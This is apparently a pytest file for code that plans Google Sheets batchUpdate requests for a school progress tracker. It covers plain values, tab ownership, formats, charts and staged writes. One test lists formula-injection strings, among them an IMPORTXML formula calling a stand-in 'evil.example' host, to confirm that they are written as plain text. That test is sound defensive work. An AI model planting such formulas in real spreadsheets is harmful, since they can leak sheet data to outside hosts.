"""The batchUpdate body: plain values never formulas, owned tabs added or cleared in place, people's
tabs never touched, formats, chart and warning-only protection."""
from __future__ import annotations

import json
import math
from datetime import date

import numpy as np
import pandas as pd

from functions.owned_tabs import BESIDE
from sync.google.batch import plan_write
from sync.google.cells import extended_value
from sync.google.spreadsheet import OWNED_KEY, Layout, SheetInfo
from sync.store import Chart, Tab

EMPTY = Layout(title="Year 3 Oak", sheets=(SheetInfo(0, "Judgements", owned=False),))


def kinds(requests: list[dict]) -> list[str]:
    return [next(iter(request)) for request in requests]


def written_cells(requests: list[dict]) -> list[list[dict]]:
    """The cells of the updateCells request that carries rows."""
    update = next(r["updateCells"] for r in requests if "updateCells" in r and "rows" in r["updateCells"])
    return [row.get("values", []) for row in update["rows"]]


def test_text_that_looks_like_a_formula_is_written_as_text():
    hostile = ['=IMPORTXML("http://evil.example","//a")', "+1", "@SUM(1)", "-2+3", "'quoted"]
    tab = Tab(title="Class summary", header=[f"c{i}" for i in range(5)], rows=[hostile])
    plan = plan_write([tab], EMPTY)
    data_row = written_cells(plan.requests)[1]
    assert [cell["userEnteredValue"] for cell in data_row] == [{"stringValue": text} for text in hostile]
    assert "formulaValue" not in json.dumps(plan.requests)


def test_values_become_the_matching_plain_kind():
    assert extended_value(12) == {"numberValue": 12}
    assert extended_value(np.int64(3)) == {"numberValue": 3}
    assert extended_value(2.5) == {"numberValue": 2.5}
    assert extended_value(True) == {"boolValue": True}
    assert extended_value(np.bool_(False)) == {"boolValue": False}
    assert extended_value("16") == {"stringValue": "16"}
    for empty in (None, math.nan, np.nan, pd.NaT, math.inf):
        assert extended_value(empty) is None


def test_dates_are_serial_numbers_counted_from_30_december_1899():
    # 2026-01-01 is serial 46023; 1 September is 243 days later; 06:00 is a quarter of a day
    assert extended_value(date(2026, 9, 1)) == {"numberValue": 46266.0}
    assert extended_value(pd.Timestamp("2026-09-01 06:00")) == {"numberValue": 46266.25}


def test_a_new_tab_is_added_marked_as_ours_and_protected_with_a_warning_only():
    plan = plan_write([Tab(title="Problems", header=["Workbook"], rows=[["Year 3 Oak"]])], EMPTY)
    add = plan.requests[0]["addSheet"]["properties"]
    meta = plan.requests[1]["createDeveloperMetadata"]["developerMetadata"]
    protect = next(r["addProtectedRange"] for r in plan.requests if "addProtectedRange" in r)
    assert add["title"] == "Problems" and add["sheetId"] != 0
    assert meta["metadataKey"] == OWNED_KEY and meta["location"] == {"sheetId": add["sheetId"]}
    assert protect["protectedRange"]["warningOnly"] is True
    assert protect["protectedRange"]["range"] == {"sheetId": add["sheetId"]}
    assert plan.problems == []


def test_an_owned_tab_is_cleared_in_place_and_its_old_chart_removed():
    layout = Layout("Tracker summary", (SheetInfo(0, "Settings", False),
                                        SheetInfo(77, "Trends", True, chart_ids=(5, 6), protected=True)))
    tab = Tab(title="Trends", header=["Window", "Maths"], rows=[["Autumn", 50.0]])
    plan = plan_write([tab], layout)
    assert kinds(plan.requests)[:4] == ["deleteEmbeddedObject", "deleteEmbeddedObject", "updateCells",
                                        "updateSheetProperties"]
    assert plan.requests[2]["updateCells"] == {"range": {"sheetId": 77}, "fields": "*"}
    assert "addSheet" not in kinds(plan.requests) and "createDeveloperMetadata" not in kinds(plan.requests)
    assert "addProtectedRange" not in kinds(plan.requests)        # still protected from last time


def test_a_persons_tab_with_our_title_is_never_touched_and_we_write_beside_it():
    layout = Layout("Tracker summary", (SheetInfo(0, "Settings", False), SheetInfo(9, "Summary", False)))
    plan = plan_write([Tab(title="Summary", header=["Year"], rows=[[3]])], layout)
    assert '"sheetId": 9' not in json.dumps(plan.requests)
    assert plan.requests[0]["addSheet"]["properties"]["title"] == "Summary" + BESIDE
    [problem] = plan.problems
    assert problem["workbook"] == "Tracker summary" and problem["tab"] == "Summary"
    assert problem["severity"] == "warning" and "Summary (tracker)" in problem["expected"]


def test_when_the_side_title_is_a_persons_tab_too_nothing_is_written():
    layout = Layout("Tracker summary", (SheetInfo(9, "Summary", False), SheetInfo(10, "Summary (tracker)", False)))
    plan = plan_write([Tab(title="Summary", header=["Year"], rows=[[3]])], layout)
    assert plan.requests == [] and len(plan.problems) == 1


def test_header_is_bold_and_statuses_coloured_and_numbers_formatted():
    tab = Tab(title="Class summary", header=["Status", "Value"], rows=[["below", 15.5], ["expected", 16.0]],
              formats={"Value": "0.0"}, colour_by={"Status": {"below": "#FF0000"}})
    header, below, expected = written_cells(plan_write([tab], EMPTY).requests)
    assert all(cell["userEnteredFormat"]["textFormat"]["bold"] for cell in header)
    assert below[0]["userEnteredFormat"]["backgroundColor"] == {"red": 1.0, "green": 0.0, "blue": 0.0}
    assert "userEnteredFormat" not in expected[0]
    assert below[1]["userEnteredFormat"]["numberFormat"] == {"type": "NUMBER", "pattern": "0.0"}


def test_a_note_row_sits_above_the_header_and_is_frozen_with_it():
    tab = Tab(title="Summary", header=["Year", "Subject"], rows=[[3, "Maths"]] * 4, note="Autumn 2026-27")
    plan = plan_write([tab], EMPTY)
    grid = plan.requests[0]["addSheet"]["properties"]["gridProperties"]
    assert grid == {"rowCount": 6, "columnCount": 2, "frozenRowCount": 2, "frozenColumnCount": 0}
    assert written_cells(plan.requests)[0] == [{"userEnteredValue": {"stringValue": "Autumn 2026-27"}}]


def test_column_widths_are_set_in_pixels():
    tab = Tab(title="Problems", header=["Workbook", "Tab"], rows=[], widths={"Tab": 10})
    [width] = [r["updateDimensionProperties"] for r in plan_write([tab], EMPTY).requests
               if "updateDimensionProperties" in r]
    assert width["range"]["startIndex"] == 1 and width["range"]["endIndex"] == 2
    assert width["properties"]["pixelSize"] == 75            # 10 characters * 7 px + 5 px padding


def test_the_trends_chart_is_a_line_chart_over_the_tabs_columns():
    chart = Chart(title="Maths and reading", x_column=0, series=(1, 2), y_title="% expected")
    tab = Tab(title="Trends", header=["Window", "Maths", "Reading"],
              rows=[["Autumn", 50, 60], ["Spring", 55, 62], ["Summer", 61, 70]], chart=chart)
    plan = plan_write([tab], EMPTY)
    sheet_id = plan.requests[0]["addSheet"]["properties"]["sheetId"]
    spec = next(r["addChart"] for r in plan.requests if "addChart" in r)["chart"]["spec"]
    basic = spec["basicChart"]
    assert basic["chartType"] == "LINE" and spec["title"] == "Maths and reading"
    domain = basic["domains"][0]["domain"]["sourceRange"]["sources"][0]
    assert domain == {"sheetId": sheet_id, "startRowIndex": 0, "endRowIndex": 4,
                      "startColumnIndex": 0, "endColumnIndex": 1}
    assert [s["series"]["sourceRange"]["sources"][0]["startColumnIndex"] for s in basic["series"]] == [1, 2]


def test_new_tab_ids_do_not_collide_with_existing_tabs():
    first = plan_write([Tab(title="Summary", header=["Year"], rows=[])], EMPTY)
    taken = first.requests[0]["addSheet"]["properties"]["sheetId"]
    layout = Layout("x", (SheetInfo(taken, "Settings", False),))
    again = plan_write([Tab(title="Summary", header=["Year"], rows=[])], layout)
    assert again.requests[0]["addSheet"]["properties"]["sheetId"] not in (taken,)


def test_a_write_over_the_budget_is_staged_in_parts_and_swapped_in_by_a_small_last_batch():
    from sync.google.batch import size, staged
    tab = Tab(title="History", header=["Academic year", "Note"], rows=[["2026-27", "x" * 200]] * 400)
    plan = plan_write([tab], EMPTY)
    whole = size({"requests": plan.requests})
    batches = staged(plan.requests, EMPTY, budget=20_000)
    assert whole > 80_000 and len(batches) >= 5
    assert all(size({"requests": batch}) <= 20_000 for batch in batches)
    staging = [r["addSheet"]["properties"] for batch in batches[:-1] for r in batch if "addSheet" in r]
    assert [p["hidden"] for p in staging] == [True] and staging[0]["title"].startswith("Tracker staging ")
    last = batches[-1]
    assert kinds(last)[-1] == "deleteSheet" and "copyPaste" in kinds(last)
    paste = next(r["copyPaste"] for r in last if "copyPaste" in r)
    target = next(r["addSheet"]["properties"]["sheetId"] for r in last if "addSheet" in r)
    assert paste["destination"]["sheetId"] == target and paste["source"]["sheetId"] == staging[0]["sheetId"]
    assert paste["destination"]["endRowIndex"] == 401 and paste["pasteType"] == "PASTE_NORMAL"
    rows = [row for batch in batches[:-1] for r in batch if "updateCells" in r for row in r["updateCells"]["rows"]]
    assert rows == next(r["updateCells"]["rows"] for r in plan.requests if "rows" in r.get("updateCells", {}))


def test_a_tab_read_this_sync_sends_only_its_changed_and_new_rows():
    layout = Layout("Tracker summary", (SheetInfo(9, "History", True, protected=True),))
    before = [["Academic year", "Value"], ["2025-26", 16], ["2026-27", 17]]
    tab = Tab(title="History", header=["Academic year", "Value"], rows=[["2025-26", 16.0], ["2026-27", 18], ["2026-27", 19]])
    plan = plan_write([tab], layout, {"History": before})
    updates = [r["updateCells"] for r in plan.requests if "rows" in r.get("updateCells", {})]
    assert [(u["start"]["rowIndex"], len(u["rows"])) for u in updates] == [(2, 2)]   # 16 == 16.0 unchanged
    assert not any(r.get("updateCells", {}).get("fields") == "*" for r in plan.requests)  # not cleared


def test_the_charts_colours_dashes_and_y_range_follow_the_layout_as_in_local_mode():
    chart = Chart(title="Trends", x_column=0, series=(1, 2), y_title="%", y_min=0, y_max=100,
                  colours=("1F4E79", "C00000"), dashed=(2,))
    tab = Tab(title="Trends", header=["Window", "Maths", "Reading"], rows=[["Autumn", 50, 60]], chart=chart)
    basic = next(r["addChart"] for r in plan_write([tab], EMPTY).requests if "addChart" in r)["chart"]["spec"][
        "basicChart"]
    first, second = basic["series"]
    assert first["colorStyle"] == {"rgbColor": {"red": 0x1F / 255, "green": 0x4E / 255, "blue": 0x79 / 255}}
    assert "lineStyle" not in first and second["lineStyle"] == {"type": "MEDIUM_DASHED", "width": 2}
    assert basic["axis"][1]["viewWindowOptions"] == {"viewWindowMode": "EXPLICIT", "viewWindowMin": 0,
                                                     "viewWindowMax": 100}


def test_wrapping_columns_and_the_header_wrap_top_aligned_as_in_local_mode():
    tab = Tab(title="Problems", header=["Cell", "Found", "Expected"], rows=[["A1", "x", "y"]] * 3,
              wrap=["Found"], note="Autumn 2026-27")
    repeats = [r["repeatCell"] for r in plan_write([tab], EMPTY).requests if "repeatCell" in r]
    assert [(r["range"]["startRowIndex"], r["range"]["endRowIndex"], r["range"]["startColumnIndex"],
             r["range"]["endColumnIndex"]) for r in repeats] == [(1, 2, 0, 3), (2, 5, 1, 2)]
    assert all(r["cell"]["userEnteredFormat"] == {"wrapStrategy": "WRAP", "verticalAlignment": "TOP"}
               for r in repeats)
    assert not [r for r in plan_write([Tab(title="Summary", header=["A"], rows=[[1]])], EMPTY).requests
                if "repeatCell" in r]
